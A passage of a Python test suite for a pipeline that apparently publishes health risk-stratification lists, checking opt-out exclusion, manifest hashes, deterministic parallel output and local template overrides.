    for path in _all_files(earlier):
        assert OPTED_OUT not in str(path) and not _contains(path, OPTED_OUT), path
        assert not _contains(path, "Opted Outperson") and not _contains(path, "9990009990"), path
    assert pl.read_csv(earlier / "teams/T1/T1_list.csv")["rank"].to_list() == [1, 2, 3]
    assert pl.read_csv(earlier / "teams/T1/T1_rising_risk.csv")["rising_rank"].to_list() == [1, 2]
    workbook = openpyxl.load_workbook(earlier / "teams/T1/T1_list.xlsx")
    assert [r[0] for r in workbook["List"].iter_rows(min_row=2, values_only=True) if any(r)] == [1, 2, 3]
    assert (earlier / "teams/T1/people/frail_90_with_homecare.html").read_bytes() == untouched
    manifest = json.loads((earlier / "manifest.json").read_text())
    assert {e["path"] for e in manifest["files"]} == {
        str(p.relative_to(earlier)) for p in _all_files(earlier) if p.name != "manifest.json"
    }
    for entry in manifest["files"]:
        assert hashlib.sha256((earlier / entry["path"]).read_bytes()).hexdigest() == entry["sha256"], entry["path"]
    again = _publish(tmp_path)
    assert again.earlier_outputs.changed_folders == [] and again.earlier_outputs.files_rewritten == 0


def test_rerun_replaces_the_folder(tmp_path: Path) -> None:
    _publish(tmp_path)
    stale = tmp_path / AS_OF.isoformat() / "teams" / "T1" / "people" / "stale_person.html"
    stale.write_text("from an older run")
    report = _publish(tmp_path)
    assert not stale.exists()
    assert all(p.exists() for p in report.files)


def test_manifest_lists_every_file(published: Published) -> None:
    manifest = json.loads((published.root / "manifest.json").read_text())
    listed = {f["path"]: f for f in manifest["files"]}
    on_disk = {str(p.relative_to(published.root)) for p in _all_files(published.root)} - {"manifest.json"}
    assert set(listed) == on_disk
    for rel, entry in listed.items():
        assert entry["sha256"] == hashlib.sha256((published.root / rel).read_bytes()).hexdigest()
    assert listed["teams/T1/T1_list.csv"]["rows"] == 3
    assert listed["teams/T1/T1_list.xlsx"]["sheets"]["List"] == 3
    assert manifest["provenance"]["run_id"] == RUN_ID
    assert manifest["guard_dropped"] == published.report.guard_dropped
    report_files = {str(p.relative_to(published.root)) for p in published.report.files}
    assert report_files == on_disk | {"manifest.json"}
    assert published.report.teams == 2 and published.report.people_listed == 5


def test_teams_written_by_worker_processes_match_one_process(tmp_path: Path) -> None:
    serial = _publish(tmp_path / "serial", workers=1)
    parallel = _publish(tmp_path / "parallel", workers=2)
    assert serial.teams == parallel.teams and serial.teams > 1
    manifests = [
        json.loads((p / AS_OF.isoformat() / "manifest.json").read_text())
        for p in (tmp_path / "serial", tmp_path / "parallel")
    ]

    # Workbooks carry their creation time; every other file must be byte-identical.
    def comparable(manifest: dict[str, Any]) -> list[tuple[str, int, str | None]]:
        return [(f["path"], f["rows"], None if f["path"].endswith(".xlsx") else f["sha256"]) for f in manifest["files"]]

    assert comparable(manifests[0]) == comparable(manifests[1])


def test_a_local_template_folder_rewords_and_rebrands_the_pages(tmp_path: Path) -> None:
    local = tmp_path / "our_templates"
    (local / "static").mkdir(parents=True)
    # Reworded: one partial replaced; the rest of the page stays the shipped one.
    (local / "_leavers.html").write_text("<h2>Who we said goodbye to</h2>\n", encoding="utf-8")
    # Rebranded: the stylesheet replaced.
    (local / "static" / "riskstrat.css").write_text("body { color: #123456 }", encoding="utf-8")
    # A local page extending the shipped one.
    (local / "summary.html").write_text(
        '{% extends "shipped/summary.html" %}{% block title %}Borough summary{% endblock %}', encoding="utf-8"
    )
    _publish(tmp_path / "out", templates=local)
    root = tmp_path / "out" / AS_OF.isoformat()
    page = (root / "teams/T1/index.html").read_text(encoding="utf-8")
    assert "Who we said goodbye to" in page and "Left the list since last week" not in page
    assert "color: #123456" in page and "Rising risk: not on the list yet" in page
    person = (root / "teams/T1/people/frail_90_with_homecare.html").read_text(encoding="utf-8")
    assert "color: #123456" in person
    summary = (root / "commissioners/summary.html").read_text(encoding="utf-8")
    assert "<title>Borough summary</title>" in summary and "People by risk tier" in summary
    # Without the folder, the shipped pages.
    _publish(tmp_path / "plain")
    shipped = (tmp_path / "plain" / AS_OF.isoformat() / "teams/T1/index.html").read_text(encoding="utf-8")
    assert "Left the list since last week" in shipped and "color: #123456" not in shipped
